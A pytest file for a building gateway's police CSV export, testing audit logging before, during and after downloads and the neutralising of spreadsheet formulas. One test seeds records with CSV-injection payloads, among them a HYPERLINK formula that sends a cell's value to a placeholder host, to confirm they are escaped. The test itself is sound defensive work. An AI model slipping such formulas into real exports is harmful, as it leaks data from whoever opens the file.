"""Police exports: audited before the first row leaves, closed when the download ends however
it ends, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import httpx
from fastapi.testclient import TestClient

from gateway.store import Store, TenantCreate
from gateway.store.audit import AuditRecord
from gateway.web.app import create_app
from gateway.web.pages_police import EXPORT_PAGE
from tests.store.factories import id_number

from .building import BuildingGateway
from .conftest import GATEWAY_ID, PASSWORDS, login
from .export_server import ROOM, open_stalling, seed, serve

ROOT = Path(__file__).resolve().parents[2]
CASE = "案件 2026-0301"


def first_page(chunks: Iterator[bytes]) -> int:
    """Read the download until the header and at least one row are in; the rows read."""
    received = b""
    while received.count(b"\n") < 2:
        received += next(chunks)
    return received.count(b"\n") - 1


def police_login(client: httpx.Client) -> None:
    response = client.post("/api/v1/login",
                           json={"username": "police", "password": PASSWORDS["police"][1]})
    assert response.status_code == 200, response.text


def audit_row(store: Store, action: str) -> AuditRecord | None:
    return next((row for row in store.audit_page() if row.action == action), None)


def wait_for(what: Callable[[], AuditRecord | None], seconds: float = 60) -> AuditRecord:
    """Poll until `what` returns a row; a generous bound, so only a row never written fails."""
    deadline = time.monotonic() + seconds
    while (found := what()) is None:
        assert time.monotonic() < deadline, "no such audit row"
        time.sleep(0.05)
    return found


def test_a_card_number_padded_past_its_digits_is_refused_before_anything_is_read(
    client: TestClient, store: Store
) -> None:
    # 4,100 zeros before the number: once written into the audit row after the rows had gone
    # out, the row was too long, so 29 rows left the building and the log never said so.
    store.append_event({
        "type": "access.granted", "door": "main", "credential": {"kind": "card", "number": 42},
        "room": "301", "reason": "tenant_card", "snapshot": None, "snapshot_error": "disabled",
    })  # fmt: skip
    login(client, "police")
    padded = "0" * 4100 + "42"
    export = client.get("/police/export.csv", params={"purpose": CASE, "card": padded})
    assert export.status_code == 422
    assert "text/html" in export.headers["content-type"]
    assert "卡号" in export.text  # the page's language says which filter
    assert store.audit_page() == []  # nothing was read, so nothing to audit
    fine = client.get("/police/export.csv", params={"purpose": CASE, "card": "0000000042"})
    assert fine.status_code == 200
    assert fine.text.count("\n") == 2  # the header and the one row
    started = audit_row(store, "export.started")
    assert started is not None
    assert started.params == {"card": 42}  # the number searched, not the text typed


def test_an_export_sends_every_row_its_filters_select_and_audits_the_count(
    client: TestClient, store: Store
) -> None:
    event = {
        "type": "access.granted",
        "door": "main",
        "credential": {"kind": "card", "number": 42},
        "room": ROOM,
        "reason": "tenant_card",
        "snapshot": None,
        "snapshot_error": "disabled",
    }
    count = 3 * EXPORT_PAGE + 7  # pages of EXPORT_PAGE, and a part of one
    store.transaction(lambda tx: [tx.append_event(dict(event)) for _ in range(count)])
    login(client, "police")
    export = client.get("/police/export.csv", params={"purpose": CASE, "room": ROOM})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    assert len(rows) == count
    assert len({row["序号"] for row in rows}) == len(rows)
    finished = audit_row(store, "export.finished")
    assert finished is not None
    assert finished.records == len(rows)


def test_a_cut_download_is_audited_as_soon_as_the_client_goes_away(tmp_path: Path) -> None:
    store = open_stalling(tmp_path / "data")
    with store:
        seed(store)
        server = serve(store, tmp_path / "data")
        try:
            with httpx.Client(base_url=server.url, timeout=60) as client:
                police_login(client)
                with client.stream("GET", "/police/export.csv",
                                   params={"purpose": CASE, "room": ROOM}) as download:
                    assert download.status_code == 200
                    received = first_page(download.iter_bytes())
                    # Written before the first row left: the query, the purpose, nothing sent.
                    started = audit_row(store, "export.started")
                    assert started is not None
                    assert (started.purpose, started.params) == (CASE, {"room": ROOM})
                # Leaving the block closes the connection halfway through the download.
            cut = wait_for(lambda: audit_row(store, "export.cut"))
            assert cut.params == {"start": started.seq}
            assert received <= cut.records < 1200  # what left, not the whole selection
            assert audit_row(store, "export.finished") is None
            [shown] = [r for r in store.audit_page() if r.seq == started.seq]
            assert shown.export_state == "cut"
            assert store.verify_audit().ok
        finally:
            store.release.set()
            server.stop()


def test_an_export_killed_mid_stream_leaves_its_start_row_marked_unfinished(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    server = subprocess.Popen([sys.executable, "-m", "tests.web.export_server", str(data)],
                              cwd=ROOT, stdout=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert server.stdout is not None
        url = server.stdout.readline().strip()
        assert url.startswith("http://"), url
        with httpx.Client(base_url=url, timeout=60) as client:
            police_login(client)
            with client.stream("GET", "/police/export.csv",
                               params={"purpose": CASE, "room": ROOM}) as download:
                assert download.status_code == 200
                assert first_page(download.iter_bytes()) >= 1  # rows have left
                os.kill(server.pid, signal.SIGKILL)
                assert server.wait() == -signal.SIGKILL
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
    with Store.open(data, GATEWAY_ID) as store:
        [started] = store.audit_page()
        assert (started.action, started.purpose, started.params) == (
            "export.started", CASE, {"room": ROOM})
        assert started.export_state == "unfinished"
        assert store.verify_audit().ok
        # The audit page and the API say so too.
        app = create_app(BuildingGateway(store, data))
        with TestClient(app, base_url="http://127.0.0.1") as client:
            login(client, "police")
            assert "未完成/中断" in client.get("/police/audit").text
            rows = client.get("/api/v1/audit").json()  # reading the log is audited too
            assert [(r["action"], r["export_state"]) for r in rows] == [
                ("audit.view", None), ("export.started", "unfinished")]


def test_cells_a_spreadsheet_would_run_are_neutralised_in_both_exports(
    client: TestClient, store: Store
) -> None:
    formulas = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+2", "-3+4", "@SUM(A1:A9)"]
    for n, text in enumerate(formulas):
        added = store.add_tenant(TenantCreate(name=f"租客{n}", id_number=id_number(40 + n),
                                 phone=f"1390000004{n}", room=f"{n}01",
                                 valid_from=date(2026, 1, 1), valid_until=date(2027, 1, 1),
                                 cards=(4000 + n,)))  # fmt: skip
        # Entry refuses such names and rooms now (validation.py); a record stored before that
        # rule, or from the city, still has them, and the export must not run them.
        with sqlite3.connect(store.db_path) as db:
            db.execute("INSERT OR IGNORE INTO rooms (room, created) VALUES (?, '')", (text[:32],))
            db.execute("UPDATE tenants SET name = ?, room = ? WHERE id = ?",
                       (text, text[:32], added.id))  # fmt: skip
    for n, room in enumerate([*formulas, "\t=1+1", "\r=1+1", "301"]):
        store.append_event({
            "type": "access.granted", "door": "main",
            "credential": {"kind": "card", "number": 5000 + n}, "room": room,
            "reason": "tenant_card", "snapshot": None, "snapshot_error": "disabled",
        })  # fmt: skip
    login(client, "head")
    tenants = list(csv.DictReader(io.StringIO(client.get("/tenants.csv").text.lstrip("\ufeff"))))
    assert sorted(t["姓名"] for t in tenants) == sorted("'" + f for f in formulas)
    assert sorted(t["房间"] for t in tenants) == sorted("'" + f[:32] for f in formulas)
    client.cookies.clear()
    login(client, "police")
    export = client.get("/police/export.csv", params={"purpose": CASE})
    rooms = [row["房间"] for row in csv.DictReader(io.StringIO(export.text.lstrip("\ufeff")))]
    assert sorted(rooms) == sorted(["'" + f for f in formulas] + ["'\t=1+1", "'\r=1+1", "301"])
